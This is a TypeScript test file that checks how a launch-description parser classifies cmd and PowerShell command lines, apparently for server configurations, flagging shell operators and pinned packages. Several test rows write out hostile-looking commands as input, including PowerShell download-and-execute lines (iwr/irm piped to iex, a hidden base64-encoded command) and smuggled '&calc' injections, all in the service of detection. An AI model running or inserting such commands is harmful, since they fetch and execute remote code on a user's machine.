// cmd and PowerShell.
import assert from "node:assert/strict";
import { test } from "node:test";
import { describeLaunch } from "../../src/facts/launch/describe_launch.ts";
import type { Launch, Package } from "../../src/generated/event.ts";

/** Words of the command line, what differs from a plain program on the search path, and the package. */
type Row = readonly [words: readonly string[], launch: Partial<Launch>, pkg?: Package];

const PLAIN = { location: "search_path", wrappers: [], elevated: false };

const ROWS: readonly Row[] = [
  [
    ["cmd", "/c", "npx", "-y", "exa-mcp-server"],
    {
      program: "npx",
      wrappers: ["cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "exa-mcp-server", pinned: false, pointer: "/server/args/3" },
  ],
  [
    ["cmd.exe", "/d", "/s", "/c", "npx -y pkg@1.0.0"],
    {
      program: "npx",
      wrappers: ["cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/3" },
    },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/3" },
  ],
  [
    ["CMD.EXE", "/C", "NPX.CMD", "-y", "pkg"],
    {
      program: "npx",
      wrappers: ["cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/3" },
  ],
  [
    ["cmd", "/c npx -y pkg"],
    {
      program: "npx",
      wrappers: ["cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/0" },
    },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["cmd", "/d/s/c", "npx", "pkg"],
    {
      program: "npx",
      wrappers: ["cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/2" },
  ],
  [
    ["cmd", "/k", "npx pkg"],
    {
      program: "npx",
      wrappers: ["cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["cmd", "/c", "npx -y pkg & calc"],
    {
      program: "cmd",
      shell: { program: "cmd", simple: false, operators: ["&"], programs: ["npx", "calc"], pointer: "/server/args/1" },
    },
  ],
  [
    ["cmd", "/c", "npx", "-y", "pkg&calc"],
    {
      program: "cmd",
      shell: { program: "cmd", simple: false, operators: ["&"], programs: ["npx", "calc"], pointer: "/server/args/1" },
    },
  ],
  [
    ["cmd", "/c", "npx", "-y", "a b", "c d&calc"],
    {
      program: "cmd",
      shell: { program: "cmd", simple: false, operators: ["&"], programs: ["npx", "calc"], pointer: "/server/args/1" },
    },
  ],
  [
    ["cmd", "/c", "npx", "%PKG%"],
    {
      program: "cmd",
      shell: { program: "cmd", simple: false, operators: ["%"], programs: ["npx"], pointer: "/server/args/1" },
    },
  ],
  [
    ["cmd", "/c", "curl x -o y && y"],
    {
      program: "cmd",
      shell: { program: "cmd", simple: false, operators: ["&&"], programs: ["curl", "y"], pointer: "/server/args/1" },
    },
  ],
  [
    ["cmd", "/c", "npx ^& x"],
    {
      program: "cmd",
      shell: {
        program: "cmd",
        simple: false,
        operators: ["^", "&"],
        programs: ["npx", "x"],
        pointer: "/server/args/1",
      },
    },
  ],
  [
    ["cmd", "/c", "npx", 'a"b'],
    {
      program: "cmd",
      shell: { program: "cmd", simple: false, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
  ],
  [
    ["cmd", "/c", '"C:\\Program Files\\nodejs\\npx.cmd" -y pkg@1.0.0'],
    {
      program: "npx",
      location: "absolute",
      wrappers: ["cmd"],
      directory: "C:/Program Files/nodejs",
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["cmd", "/c", "C:\\Program Files (x86)\\nodejs\\npx.cmd", "-y", "pkg@1.0.0"],
    {
      program: "npx",
      location: "absolute",
      wrappers: ["cmd"],
      directory: "C:/Program Files (x86)/nodejs",
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/3" },
  ],
  [
    ["cmd", "/c", "start", "npx", "pkg"],
    {
      program: "cmd",
      shell: { program: "cmd", simple: false, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
  ],
  [["cmd", "/c"], { program: "cmd" }],
  [["cmd"], { program: "cmd" }],
  [
    ["cmd", "/c", "cmd", "/c", "npx", "pkg@1.0.0"],
    {
      program: "npx",
      wrappers: ["cmd", "cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/3" },
    },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/4" },
  ],
  [
    ["C:\\Windows\\System32\\cmd.exe", "/c", "uvx", "pkg==1.0"],
    {
      program: "uvx",
      wrappers: ["cmd"],
      shell: { program: "cmd", simple: true, operators: [], programs: ["uvx"], pointer: "/server/args/1" },
    },
    { runner: "uvx", registry: "pypi", name: "pkg", version: "1.0", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", "iwr https://x | iex"],
    {
      program: "powershell",
      shell: {
        program: "powershell",
        simple: false,
        operators: ["|"],
        programs: ["iwr", "iex"],
        pointer: "/server/args/4",
      },
    },
  ],
  [
    ["powershell", "-c", "npx -y @a/b@1.0.0"],
    {
      program: "npx",
      wrappers: ["powershell"],
      shell: { program: "powershell", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "@a/b", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["powershell", "-Command", "npx", "-y", "pkg@1.0.0"],
    {
      program: "npx",
      wrappers: ["powershell"],
      shell: { program: "powershell", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/1" },
    },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/3" },
  ],
  [
    ["powershell", "-c", "& 'C:\\x y\\z.exe' a"],
    {
      program: "powershell",
      shell: { program: "powershell", simple: false, operators: ["&"], programs: ["z"], pointer: "/server/args/1" },
    },
  ],
  [
    ["powershell", "-c", "iex (New-Object Net.WebClient).DownloadString('https://x')"],
    {
      program: "powershell",
      shell: {
        program: "powershell",
        simple: false,
        operators: ["()"],
        programs: ["iex", "new-object"],
        pointer: "/server/args/1",
      },
    },
  ],
  [
    ["powershell", "-c", "$p = irm https://x; iex $p"],
    {
      program: "powershell",
      shell: {
        program: "powershell",
        simple: false,
        operators: ["$", ";"],
        programs: ["irm", "iex"],
        pointer: "/server/args/1",
      },
    },
  ],
  [
    ["powershell", "-EncodedCommand", "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA="],
    {
      program: "powershell",
      shell: {
        program: "powershell",
        simple: false,
        operators: ["()"],
        programs: ["iex", "iwr"],
        pointer: "/server/args/1",
      },
      inline_code: { program: "powershell", flag: "-EncodedCommand", pointer: "/server/args/1" },
    },
  ],
  [
    ["powershell", "-nop", "-w", "hidden", "-enc", "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA="],
    {
      program: "powershell",
      shell: {
        program: "powershell",
        simple: false,
        operators: ["()"],
        programs: ["iex", "iwr"],
        pointer: "/server/args/4",
      },
      inline_code: { program: "powershell", flag: "-enc", pointer: "/server/args/4" },
    },
  ],
  [["pwsh", "-File", "x.ps1"], { program: "pwsh", script: { path: "x.ps1", pointer: "/server/args/1" } }],
  [["pwsh", "x.ps1"], { program: "pwsh", script: { path: "x.ps1", pointer: "/server/args/0" } }],
  [
    ["powershell", "npx", "pkg@1.0.0"],
    {
      program: "npx",
      wrappers: ["powershell"],
      shell: { program: "powershell", simple: true, operators: [], programs: ["npx"], pointer: "/server/args/0" },
    },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [["powershell", "-Weird", "x"], { program: "powershell", location: "unknown" }],
  [["powershell"], { program: "powershell" }],
  [
    ["powershell", "-c", "npx a,b"],
    {
      program: "powershell",
      shell: { program: "powershell", simple: false, operators: [","], programs: ["npx"], pointer: "/server/args/1" },
    },
  ],
];

for (const [words, launch, pkg] of ROWS) {
  const [command = "", ...args] = words;
  test(`describeLaunch reads ${JSON.stringify(words).slice(0, 120)}`, () => {
    const described = describeLaunch({ command, args });
    // `exact` has its own table in launch_exact.test.ts.
    const expected = pkg === undefined ? {} : { package: { exact: described.package?.exact, ...pkg } };
    assert.deepEqual(described, { launch: { ...PLAIN, ...launch }, ...expected });
  });
}
